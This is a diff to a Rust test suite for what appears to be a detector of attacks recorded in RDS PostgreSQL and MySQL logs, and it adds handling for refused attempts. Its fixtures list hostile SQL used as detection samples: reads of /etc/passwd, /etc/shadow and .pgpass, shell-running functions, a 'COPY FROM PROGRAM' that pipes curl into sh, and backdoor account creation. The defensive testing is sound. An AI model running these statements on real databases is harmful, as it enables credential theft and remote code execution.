@@ -256,10 +256,13 @@ fn role_elevated() {
             "SELECT User, Super_priv FROM mysql.user",
         ],
     );
-    // A failed GRANT (MySQL retcode 1044: access denied) elevated nobody.
-    silent(
+    // A refused GRANT (MySQL retcode 1044: access denied) elevated nobody, but was
+    // tried: Medium, titled refused.
+    refused(
         ROLE,
         &my_query("GRANT ALL ON *.* TO 'm'@'%' WITH GRANT OPTION", 1044),
+        "PrivilegeEscalation:RDS/RoleElevated",
+        5.0,
     );
     // RDS's own account grants rds_superuser to the master user at creation.
     silent(
@@ -384,9 +387,12 @@ fn account_created() {
             "GRANT SELECT ON shop.* TO 'app'@'%'",
         ],
     );
-    silent(
+    // Refused (1227: access denied): an attempt, at Medium.
+    refused(
         ACCOUNT,
         &my_query("CREATE USER 'm'@'%' IDENTIFIED BY 'x'", 1227),
+        "Persistence:RDS/AccountCreated",
+        5.0,
     );
     silent(
         ACCOUNT,
@@ -407,13 +413,16 @@ fn server_side_command() {
             "SELECT lo_export(16411, '/tmp/x.so')",
             "SELECT pg_read_file('/etc/passwd', 0, 200)",
             "select pg_ls_dir('/var/lib/postgresql')",
-            "SELECT pg_read_binary_file('global/pg_control')",
+            "SELECT pg_read_file('../../../etc/passwd')",
+            "SELECT pg_stat_file('/etc/shadow')",
+            "SELECT pg_read_file(current_setting('data_directory') || '/../.pgpass')",
             "CREATE OR REPLACE FUNCTION sh(c text) RETURNS text AS $$ import os; return os.popen(c).read() $$ LANGUAGE plpython3u",
             "CREATE EXTENSION plperlu",
             "CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C STRICT",
         ],
         &[
             "SELECT sys_exec('id > /tmp/out')",
+            "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
             "select sys_eval('whoami')",
             "CREATE FUNCTION sys_exec RETURNS INT SONAME 'lib_mysqludf_sys.so'",
             "SELECT LOAD_FILE('/etc/passwd')",
@@ -426,11 +435,10 @@ fn server_side_command() {
                2026-12-01 10:00:01 UTC:203.0.113.9(50432):app@shop:[4242]:ERROR:  permission denied to COPY to or from an external program\n\
                2026-12-01 10:00:01 UTC:203.0.113.9(50432):app@shop:[4242]:DETAIL:  Only roles with privileges of the \"pg_execute_server_program\" role may COPY to or from an external program.\n\
                2026-12-01 10:00:01 UTC:203.0.113.9(50432):app@shop:[4242]:STATEMENT:  COPY t FROM PROGRAM 'curl http://198.51.100.7/x | sh'\n";
-    let f = fires(COMMAND, err, T);
-    assert_eq!(f.severity.value(), 9.0);
+    let f = refused(COMMAND, err, T, 5.0);
     assert_eq!(
         f.title,
-        "app made orders-db run commands or touch server files"
+        "Refused: app made orders-db run commands or touch server files"
     );
     fires(
         COMMAND,
@@ -447,6 +455,10 @@ fn server_side_command() {
             "COPY orders TO STDOUT WITH CSV HEADER",
             "COPY orders FROM STDIN",
             "SELECT pg_ls_waldir()",
+            // Monitoring (pgcluu, as in pgbadger's rds.log): the data directory only.
+            "COPY (SELECT count(*) FROM pg_ls_dir('pg_wal') AS file WINDOW w AS (ORDER BY (pg_stat_file('pg_wal/'||file)).modification DESC)) TO STDOUT CSV DELIMITER ';'",
+            "SELECT pg_read_binary_file('global/pg_control')",
+            "SELECT pg_read_file('postgresql.auto.conf')",
             "CREATE FUNCTION add(a int, b int) RETURNS int AS $$ SELECT a + b $$ LANGUAGE sql",
             "CREATE FUNCTION f() RETURNS trigger AS $$ BEGIN RETURN NEW; END $$ LANGUAGE plpgsql",
             "CREATE EXTENSION pg_stat_statements",
@@ -457,6 +469,7 @@ fn server_side_command() {
             "SELECT * FROM files WHERE load_file_name = 'x'",
             "SELECT id INTO OUTFILE '/var/lib/mysql-files/ids.csv' FROM orders",
             "INSTALL SONAME 'server_audit'",
+            "LOAD DATA LOCAL INFILE '/tmp/orders.csv' INTO TABLE orders",
         ],
     );
 }
@@ -510,10 +523,18 @@ fn bulk_export() {
             "SELECT 1",
         ],
     );
-    // The sample log's OUTFILE failed (1227): nothing was written.
-    silent(
+    // The sample log's OUTFILE was refused (1227): nothing was written, but it was
+    // tried.
+    refused(
         EXPORT,
         &my_query("SELECT * FROM customers INTO OUTFILE '/tmp/x.csv'", 1227),
+        T,
+        5.0,
+    );
+    // Not a refusal (1064: syntax error): silent.
+    silent(
+        EXPORT,
+        &my_query("SELECT * FROM customers INTO OUTFILE '/tmp/x.csv'", 1064),
     );
 }
 
@@ -728,16 +749,76 @@ fn the_examples_in_docs_rules_md_work_as_documented() {
 }
 
 #[test]
-fn refused_statements_are_not_results() {
-    // PostgreSQL refuses a GRANT: the ERROR carries the statement, but nothing was
-    // granted (no log_statement line here, as with log_statement = 'none').
+fn refused_statements_are_attempts() {
+    // PostgreSQL refuses a GRANT: the ERROR carries the statement. Nothing was
+    // granted (no log_statement line here, as with log_statement = 'none'), but it
+    // was tried: the same finding type at Medium, titled refused, with the error.
     let log = "2026-12-01 10:00:01 UTC:10.0.3.14(41000):shop@shop:[20000]:ERROR:  permission denied to grant role \"rds_superuser\"\n\
                2026-12-01 10:00:01 UTC:10.0.3.14(41000):shop@shop:[20000]:STATEMENT:  GRANT rds_superuser TO shop\n";
-    silent(ROLE, log);
-    silent(
+    let f = refused(ROLE, log, "PrivilegeEscalation:RDS/RoleElevated", 5.0);
+    assert!(
+        f.description.contains("permission denied to grant role"),
+        "{}",
+        f.description
+    );
+    refused(
         EXPORT,
         &log.replace("GRANT rds_superuser TO shop", "COPY orders TO '/tmp/o.csv'"),
+        "Exfiltration:RDS/BulkExport",
+        5.0,
     );
+    // Refused, then the same user succeeds: one finding, risen to the rule's
+    // severity, titled as the rule's own.
+    let then = format!(
+        "{log}2026-12-01 10:05:00 UTC:10.0.3.14(41000):shop@shop:[20000]:LOG:  statement: GRANT rds_superuser TO shop\n"
+    );
+    let f = fires(ROLE, &then, "PrivilegeEscalation:RDS/RoleElevated");
+    assert_eq!(f.severity.value(), 8.0);
+    assert_eq!(f.count, 2);
+    assert!(!f.title.starts_with("Refused"), "{}", f.title);
+    // The ERROR after a statement already logged (log_statement, pgaudit) is the
+    // same attempt, not a second one.
+    let echo = format!(
+        "2026-12-01 10:00:00 UTC:10.0.3.14(41000):shop@shop:[20000]:LOG:  statement: GRANT rds_superuser TO shop\n{log}"
+    );
+    let f = fires(ROLE, &echo, "PrivilegeEscalation:RDS/RoleElevated");
+    assert_eq!(f.count, 1);
+    // Errors that are not refusals (a syntax error) are not attempts of the act.
+    silent(
+        ROLE,
+        &log.replace(
+            "permission denied to grant role \"rds_superuser\"",
+            "syntax error at or near \"TO\"",
+        ),
+    );
+    // A refused attempt to turn audit logging off (MySQL 1227) and to create a login.
+    refused(
+        TAMPER,
+        &my_query("SET GLOBAL server_audit_logging = OFF", 1227),
+        "Stealth:RDS/AuditTampering",
+        5.0,
+    );
+    refused(
+        ACCOUNT,
+        "2026-12-01 10:00:01 UTC:10.0.3.14(41000):shop@shop:[20000]:ERROR:  permission denied to create role\n\
+         2026-12-01 10:00:01 UTC:10.0.3.14(41000):shop@shop:[20000]:STATEMENT:  CREATE ROLE backdoor LOGIN PASSWORD 'x'\n",
+        "Persistence:RDS/AccountCreated",
+        4.0,
+    );
+}
+
+/// One finding of `ty`, of refused attempts only: Medium, titled refused.
+#[track_caller]
+fn refused(rule: &str, log: &str, ty: &str, severity: f64) -> Finding {
+    let f = fires(rule, log, ty);
+    assert_eq!(f.severity.value(), severity, "{f:#?}");
+    assert!(f.title.starts_with("Refused: "), "{}", f.title);
+    assert!(
+        f.description.contains("The server refused it"),
+        "{}",
+        f.description
+    );
+    f
 }
 
 #[test]
